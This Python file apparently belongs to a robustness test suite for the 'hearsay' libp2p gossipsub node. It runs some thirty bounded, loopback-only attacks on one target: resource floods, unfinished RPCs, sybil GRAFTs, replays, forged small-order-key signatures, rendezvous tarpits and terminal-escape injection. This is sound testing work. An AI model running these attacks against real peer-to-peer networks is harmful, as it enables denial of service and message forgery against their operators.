"""The attacks, one function each. A process runs one attack or all of them against one node, the target.

Each attack has its own addresses in 127.0.0.0/8, is bounded in bytes, and ends at a given time. An attacker that the
target disconnects comes back with another peer id. Connections that attack by being open stay open until the end.
Lines of JSON on stdout: `set` when the records of `poisoned-rendezvous` are registered; `done` with the counts and
the attackers' peer ids.
"""

from __future__ import annotations

import argparse
import asyncio
from collections.abc import Awaitable, Callable
from contextlib import AsyncExitStack, suppress
from functools import partial
from os import urandom
from time import monotonic

from attacks_on_connections import empty_frames, idle_connections, one_byte_frames
from attacks_on_relays import disputed_messages, equivocations, exchange_floods, partial_groups
from children import print_event
from raw_peer import MESHSUB, Gone, Target
from scene import Scene
from signatures import EXPENSIVE_KEYS, forged_messages, message_of_small_order

from hearsay.core.language.rpc import Control, Extension, Graft, IWant, Message, PeerInfo, Prune, Rpc, Subscription
from hearsay.libp2p.frames import FrameReader, frame
from hearsay.libp2p.identify import PROTOCOL as IDENTIFY
from hearsay.libp2p.names.keys import PrivateKey
from hearsay.libp2p.names.multiaddr import Multiaddr
from hearsay.libp2p.names.peer_id import peer_id_of
from hearsay.libp2p.names.protobuf import DELIMITED, walk
from hearsay.libp2p.names.protobuf import encode as varint
from hearsay.libp2p.rendezvous import PROTOCOL as RENDEZVOUS
from hearsay.libp2p.rendezvous import MessageType, PeerRecord, RendezvousMessage, encode_message, seal_record
from hearsay.wire.encode import encode_rpc
from hearsay.wire.messages import by_author
from hearsay.wire.signing import Author, SignaturePolicy

MIB = 1 << 20
BIG = MIB - 4096


async def discovers_unread(scene: Scene) -> None:
    """Register 120 large records, request all of them 600 times, and read no answer."""
    for padding in (_padding_addresses(), _padding_addresses()[:28]):
        await _register_records(scene, "stuffed", 60, padding)
    question = frame(encode_message(RendezvousMessage(type=MessageType.DISCOVER, namespace="stuffed")))

    async def ask() -> None:
        peer = await scene.connect()
        stream = peer.open(RENDEZVOUS)
        await asyncio.sleep(0.2)
        peer.stop_reading()
        for _ in range(6):
            await peer.write(stream, question * 100)
            scene.counts["questions"] += 100
            await asyncio.sleep(0.1)
        await scene.hold_connections(peer)

    await scene.repeat(ask)


async def unfinished_questions(scene: Scene) -> None:
    """Open 200 streams to the rendezvous point, each with a request of 256 KiB that lacks its last bytes."""
    question = varint(1 << 18) + bytes((1 << 18) - 1000)

    async def ask() -> None:
        peer = await scene.connect()
        for first in range(0, 200, 20):
            streams = [peer.open(RENDEZVOUS) for _ in range(20)]
            await asyncio.gather(*(peer.write(stream, question) for stream in streams), return_exceptions=True)
            scene.counts["streams"] += first and 20
        await scene.hold_connections(peer)

    await scene.repeat(ask)


async def long_topic_names(scene: Scene) -> None:
    """Subscribe to 250 topics with names of a mebibyte."""
    left = [250]

    async def subscribe() -> None:
        peer, stream = await scene.member()
        while left[0] and not scene.is_over:
            left[0] -= 1
            name = urandom(8).hex() + "n" * (BIG - 16)
            await peer.write(stream, frame(encode_rpc(Rpc((Subscription(name, True),)))))
            scene.counts["names"] += 1
        await scene.hold_connections(peer)

    await scene.repeat(subscribe)


async def expensive_signatures(scene: Scene, kind: str) -> None:
    """Send a mebibyte a second of messages with wrong signatures that take long to verify."""

    async def flood() -> None:
        peer, stream = await scene.member("news")
        while not scene.is_over:
            messages = forged_messages(kind, MIB - 2000)
            await peer.write(stream, frame(messages))
            scene.counts["MiB"] += 1
            await asyncio.sleep(1)

    await scene.repeat(flood)


async def idle_sockets(scene: Scene, count: int = 140) -> None:
    """Open `count` silent sockets from one address, and open them again when they are closed."""

    async def idle() -> None:
        try:
            reader, writer = await asyncio.open_connection(*scene.target, local_addr=(scene.source(), 0))
        except OSError as error:
            raise Gone(str(error)) from None
        scene.counts["sockets"] += 1
        try:
            with suppress(OSError, TimeoutError):
                async with asyncio.timeout_at(asyncio.get_running_loop().time() + scene.until - monotonic()):
                    while await reader.read(4096):
                        pass
        finally:
            writer.close()

    await asyncio.gather(*(scene.repeat(idle) for _ in range(count)))


async def slow_validator_flood(scene: Scene, peers: int = 1) -> None:
    """Send 8,000 valid messages per peer, as fast as the target reads, to a topic whose validator takes a second."""

    async def flood(source: str) -> None:
        identity = PrivateKey.generate()
        author = Author(identity, 1)
        peer, stream = await scene.member("slow", source=source, identity=identity)
        for _ in range(40):
            if scene.is_over:
                break
            messages = tuple(_signed_message(author, "slow", b"flood") for _ in range(200))
            await peer.write(stream, frame(encode_rpc(Rpc((), messages))))
            scene.counts["messages"] += 200
            await asyncio.sleep(0.05)
        await scene.hold_connections(peer)

    await asyncio.gather(*(scene.repeat(partial(flood, scene.source(1 + number))) for number in range(peers)))


async def tiny_rpcs(scene: Scene) -> None:
    """Send RPCs of 3 to 9 bytes as fast as the target reads."""
    kinds = [b"\x02\x1a\x00", frame(encode_rpc(Rpc((Subscription("ab", True),)))), b"\x02\x0a\x00",
             frame(encode_rpc(Rpc((Subscription("ab", False),))))]  # fmt: skip
    piece = b"".join(kinds) * 2000

    async def flood() -> None:
        peer, stream = await scene.member("news")
        while not scene.is_over:
            await peer.write(stream, piece)
            scene.counts["kB"] += len(piece) // 1000

    await scene.repeat(flood)


async def malformed_rpcs(scene: Scene) -> None:
    """Send RPCs that cannot be decoded on eight streams, and open eight new streams when these are reset."""
    nonsense = b"\x05\x0a\xff\xff\xff\x7f"

    async def flood() -> None:
        peer, _ = await scene.member("news")
        while not scene.is_over:
            streams = [peer.open(MESHSUB, nonsense) for _ in range(8)]
            scene.counts["malformed"] += 8
            await peer.drain()
            for _ in range(50):
                if not any(peer.is_open(stream) for stream in streams):
                    break
                await asyncio.sleep(0.005)
            if peer.closed.is_set():
                raise Gone

    await scene.repeat(flood)


async def poisoned_rendezvous(scene: Scene) -> None:
    """Register 45 records with 40 addresses of servers that accept and never answer, and 80 large records."""
    async with AsyncExitStack() as stack:
        tarpits: list[Multiaddr] = []
        for number in range(1, 41):
            server = await asyncio.start_server(_tarpit, scene.source(number), 0)
            stack.callback(server.close)
            host, port = server.sockets[0].getsockname()[:2]
            tarpits.append(Multiaddr.parse(f"/ip4/{host}/tcp/{port}"))
        await _register_records(scene, "meet", 45, tarpits)
        for padding in (_padding_addresses(), _padding_addresses()[:28]):
            await _register_records(scene, "meet", 40, padding)
        print_event({"event": "set"})
        await scene.wait_until_over()


async def _tarpit(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with suppress(OSError):
        while await reader.read(4096):
            pass
    writer.close()


async def names_in_unverified_messages(scene: Scene) -> None:
    """Send 24 MiB of messages without signatures, each with a new author and id, half of them with a new topic."""
    left = [24]

    async def flood() -> None:
        peer, stream = await scene.member("news")
        while left[0] and not scene.is_over:
            left[0] -= 1
            messages: list[Message] = []
            for place in range(7000):
                topic = "news" if place % 2 else urandom(24).hex()
                messages.append(Message(b"", topic, b"", b"\x12\x20" + urandom(32), urandom(8), bytes(16)))
            await peer.write(stream, frame(encode_rpc(Rpc((), tuple(messages)))[:MIB]))
            scene.counts["MiB"] += 1
            await asyncio.sleep(0.05)
        await scene.hold_connections(peer)

    await scene.repeat(flood)


async def stopped_peers(scene: Scene) -> None:
    """Let six members of the mesh stop: they read and answer nothing, and keep their sockets open."""
    peers = await asyncio.gather(
        *(scene.member("news", source=scene.source(1 + i // 2), graft=True) for i in range(6))
    )
    await asyncio.sleep(1)
    for peer, _ in peers:
        peer.stop_reading()
    await scene.wait_until_over()


async def same_data_two_topics(scene: Scene) -> None:
    """Wait. This is no attack: honest nodes publish the same unsigned data in two topics."""
    await scene.wait_until_over()


async def unread_streams(scene: Scene) -> None:
    """Open 60 identify streams on each of 20 connections from two addresses, and send 250 kB on each stream."""

    async def talk(source: str) -> None:
        peer = await scene.connect(source)
        chatter = bytes(250_000)
        for _ in range(3):
            streams = [peer.open(IDENTIFY) for _ in range(20)]
            await asyncio.gather(*(peer.write(stream, chatter) for stream in streams), return_exceptions=True)
            scene.counts["streams"] += 20
        await scene.hold_connections(peer)

    await asyncio.gather(*(scene.repeat(partial(talk, scene.source(1 + number // 10))) for number in range(20)))


async def kept_messages(scene: Scene, topic: str = "news", budget: int = 300) -> None:
    """Send `budget` valid messages of a mebibyte as fast as the target reads."""
    left = [budget]

    async def flood() -> None:
        identity = PrivateKey.generate()
        author = Author(identity, 1)
        peer, stream = await scene.member(topic, identity=identity)
        while left[0] and not scene.is_over:
            left[0] -= 1
            message = _signed_message(author, topic, bytes(BIG))
            await peer.write(stream, frame(encode_rpc(Rpc((), (message,)))))
            scene.counts["MiB"] += 1
        await scene.hold_connections(peer)

    await scene.repeat(flood)


async def wanted_messages(scene: Scene) -> None:
    """Send 100 messages of a mebibyte; after each 20, a second peer requests all so far, and reads nothing."""

    async def ask() -> None:
        identity = PrivateKey.generate()
        author = Author(identity, 1)
        greedy, wants = await scene.member(source=scene.source(2))
        greedy.stop_reading()
        peer, stream = await scene.member("news", identity=identity)
        ids: list[bytes] = []
        for _ in range(100):
            if scene.is_over:
                break
            message = _signed_message(author, "news", bytes(BIG))
            ids.append(by_author("news", author.peer, message.seqno, message.data))
            await peer.write(stream, frame(encode_rpc(Rpc((), (message,)))))
            scene.counts["MiB"] += 1
            if len(ids) % 20 == 0:
                await greedy.write(wants, frame(encode_rpc(Rpc(control=Control(iwant=(IWant(tuple(ids)),))))))
        await scene.hold_connections(peer, greedy)

    await scene.repeat(ask)


async def unfinished_rpcs(scene: Scene) -> None:
    """Open 100 connections from one address, each with an RPC of a mebibyte that lacks its last bytes."""
    most = varint(MIB) + bytes(MIB - 1000)

    async def talk() -> None:
        peer, stream = await scene.member()
        await peer.write(stream, most)
        scene.counts["unfinished"] += 1
        await scene.hold_connections(peer)

    await asyncio.gather(*(scene.repeat(talk) for _ in range(100)))


async def grafting_sybils(scene: Scene) -> None:
    """Send GRAFT every second from 60 peers of one address, which forward nothing."""

    async def graft() -> None:
        peer, stream = await scene.member("news", graft=True)
        while not scene.is_over:
            await asyncio.sleep(1)
            await peer.write(stream, frame(encode_rpc(Rpc(control=Control(graft=(Graft("news"),))))))
            scene.counts["grafts"] += 1

    await asyncio.gather(*(scene.repeat(graft) for _ in range(60)))


async def replays(scene: Scene) -> None:
    """Record 20 messages of honest nodes, wait until the target has forgotten them, and send them again."""
    recorded: list[bytes] = []

    async def record() -> None:
        peer, _ = await scene.member("news", graft=True)
        reader = FrameReader(4 * MIB)

        def listen(data: bytes) -> None:
            for rpc in reader.receive(data):
                recorded.extend(
                    rpc[start:stop]
                    for number, kind, start, stop in walk(rpc, 0, len(rpc))
                    if number == 2 and kind == DELIMITED
                )

        peer.on_rpcs = listen
        while len(recorded) < 20 and not scene.is_over and not peer.closed.is_set():
            await asyncio.sleep(0.05)
        peer.close()

    while len(recorded) < 20 and not scene.is_over:
        with suppress(Gone):
            await record()
    await asyncio.sleep(4)

    async def repeat() -> None:
        peer, stream = await scene.member("news")
        for message in recorded[:20]:
            await peer.write(stream, frame(b"\x12" + varint(len(message)) + message))
            scene.counts["replayed"] += 1
        await asyncio.sleep(1)
        await scene.hold_connections(peer)

    with suppress(Gone):
        await repeat()
    await scene.wait_until_over()


async def unasked_records(scene: Scene) -> None:
    """Send unrequested signed records of unknown peers: in unknown fields of the control message, and in PRUNEs."""
    strangers = [PrivateKey.generate() for _ in range(64)]
    somewhere = (Multiaddr.parse("/ip4/127.255.0.1/tcp/9"),)

    async def flood() -> None:
        peer, stream = await scene.member("news")
        while not scene.is_over:
            infos: list[PeerInfo] = []
            for stranger in strangers:
                name = peer_id_of(stranger.public)
                infos.append(PeerInfo(name, seal_record(stranger, PeerRecord(name, 1, somewhere))))
            records = tuple(Extension(1 << 22, info.record) for info in infos if info.record)
            rpc = Rpc(control=Control(prune=(Prune("news", 1, tuple(infos)),), extensions=records))
            await peer.write(stream, frame(encode_rpc(rpc)))
            scene.counts["records"] += 128
            strangers[:] = [PrivateKey.generate() for _ in range(64)]
            await asyncio.sleep(0.02)

    await scene.repeat(flood)


async def small_order_keys(scene: Scene) -> None:
    """Send messages of an author whose key is a point of small order, so that one signature is valid for any data."""

    async def speak() -> None:
        peer, stream = await scene.member("news")
        while not scene.is_over:
            await peer.write(stream, frame(message_of_small_order(b"forged " + urandom(4))))
            scene.counts["forged"] += 1
            await asyncio.sleep(0.2)

    await scene.repeat(speak)


async def terminal_control(scene: Scene) -> None:
    """Send messages with control characters, which forge lines and control the terminal if they are printed raw."""
    identity = PrivateKey.generate()
    author = Author(identity, 1)

    async def speak() -> None:
        peer, stream = await scene.member("news", identity=identity)
        while not scene.is_over:
            data = b"hello\r\n\x1b]0;owned\x07\x1b[2Jforged line \xc2\x9b31m"
            await peer.write(stream, frame(encode_rpc(Rpc((), (_signed_message(author, "news", data),)))))
            scene.counts["messages"] += 1
            await asyncio.sleep(0.2)

    await scene.repeat(speak)


ATTACKS: dict[str, Callable[[Scene], Awaitable[None]]] = {
    "discovers-unread": discovers_unread,
    "discovers-unread/unfinished": unfinished_questions,
    "long-topic-names": long_topic_names,
    **{f"expensive-signatures/{kind}": partial(expensive_signatures, kind=kind) for kind in EXPENSIVE_KEYS},
    "idle-sockets": idle_sockets,
    "slow-validator-flood": slow_validator_flood,
    "slow-validator-flood/four": partial(slow_validator_flood, peers=4),
    "tiny-rpcs": tiny_rpcs,
    "tiny-rpcs/malformed": malformed_rpcs,
    "poisoned-rendezvous": poisoned_rendezvous,
    "names-in-unverified-messages": names_in_unverified_messages,
    "stopped-peers": stopped_peers,
    "same-data-two-topics": same_data_two_topics,
    "bytes-kept/unread-streams": unread_streams,
    "bytes-kept/message-cache": kept_messages,
    "bytes-kept/validations": partial(kept_messages, topic="slow"),
    "bytes-kept/wanted": wanted_messages,
    "bytes-kept/application": partial(kept_messages, topic="unread"),
    "bytes-kept/unfinished-rpcs": unfinished_rpcs,
    "grafting-sybils": grafting_sybils,
    "replays": replays,
    "unasked-records": unasked_records,
    "small-order-keys": small_order_keys,
    "terminal-control": terminal_control,
    "few-files": partial(idle_sockets, count=200),
    "disputed-messages": disputed_messages,
    "idle-connections": idle_connections,
    "tiny-frames/one-byte": one_byte_frames,
    "tiny-frames/empty": empty_frames,
    "exchange-floods": exchange_floods,
    "equivocations": equivocations,
    "partial-groups": partial_groups,
    "partial-groups/right": partial(partial_groups, right=True),
}


def _signed_message(author: Author, topic: str, data: bytes) -> Message:
    return author.write(topic, data, SignaturePolicy.STRICT_SIGN)


def _padding_addresses() -> list[Multiaddr]:
    """Return addresses for a record of nearly 8 KiB; the first 28 make a record of nearly 4 KiB."""
    return [Multiaddr.parse(f"/dns4/{'p' * 110}{number:03}.invalid/tcp/1") for number in range(60)]


async def _register_records(scene: Scene, namespace: str, count: int, addresses: list[Multiaddr]) -> None:
    """Register a record under `count` new peer ids, one after the other; stop after nine refused connections."""
    refused = 0
    for place in range(count):
        identity = PrivateKey.generate()
        record = seal_record(identity, PeerRecord(peer_id_of(identity.public), 1, tuple(addresses)))
        message = RendezvousMessage(type=MessageType.REGISTER, namespace=namespace, record=record, ttl_s=7200)
        try:
            peer = await scene.connect(scene.source(1 + place % 4), identity)
        except Gone:
            refused += 1
            if refused > 8 or scene.is_over:
                return
            continue
        answered = asyncio.Event()
        peer.on_data = lambda _stream, data, answered=answered: answered.set() if len(data) < 30 else None
        with suppress(Gone, TimeoutError):
            async with asyncio.timeout(1):
                stream = peer.open(RENDEZVOUS)
                await peer.write(stream, frame(encode_message(message)))
                await answered.wait()
                await asyncio.sleep(0.01)
        peer.close()
        scene.counts["registrations"] += 1


async def run(flags: argparse.Namespace) -> None:
    until = monotonic() + flags.seconds
    relays = tuple(map(to_target, filter(None, flags.relays.split(","))))
    names = list(ATTACKS)
    part, parts = map(int, flags.part.split("/"))
    chosen = names[part::parts] if flags.attack == "all" else [flags.attack]
    without = set(flags.without.split(","))
    scenes = {
        name: Scene(to_target(flags.target), 20 + names.index(name), until, relays, flags.addresses)
        for name in chosen
        if name not in without
    }
    await asyncio.gather(*(_run_until_over(name, scene) for name, scene in scenes.items()))
    counts = {name: dict(scene.counts) for name, scene in scenes.items()}
    peers = sorted(peer.hex() for scene in scenes.values() for peer in scene.peers)
    print_event({"event": "done", "counts": counts, "peers": peers})


async def _run_until_over(name: str, scene: Scene) -> None:
    with suppress(Gone, TimeoutError):
        async with asyncio.timeout(scene.until - monotonic() + 1):
            await ATTACKS[name](scene)


def to_target(address: str) -> Target:
    endpoint = Multiaddr.parse(address).tcp_endpoint
    if endpoint is None:
        raise ValueError(f"{address}: not a multiaddr with a TCP port")
    return Target(*endpoint)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=[*ATTACKS, "all"])
    parser.add_argument("target", help="multiaddr of the target")
    parser.add_argument("--relays", default="", help="multiaddrs of honest peers of the target")
    parser.add_argument(
        "--addresses", type=int, default=1, help="number of addresses that are used in turn instead of one"
    )
    parser.add_argument("--seconds", type=float, default=8)
    parser.add_argument("--without", default="", help="with `all`: attacks to omit, separated by commas")
    parser.add_argument(
        "--part", default="0/1", help="with `all`: PART/PARTS, such as 0/3 for the first third of the attacks"
    )
    asyncio.run(run(parser.parse_args()))


if __name__ == "__main__":
    main()
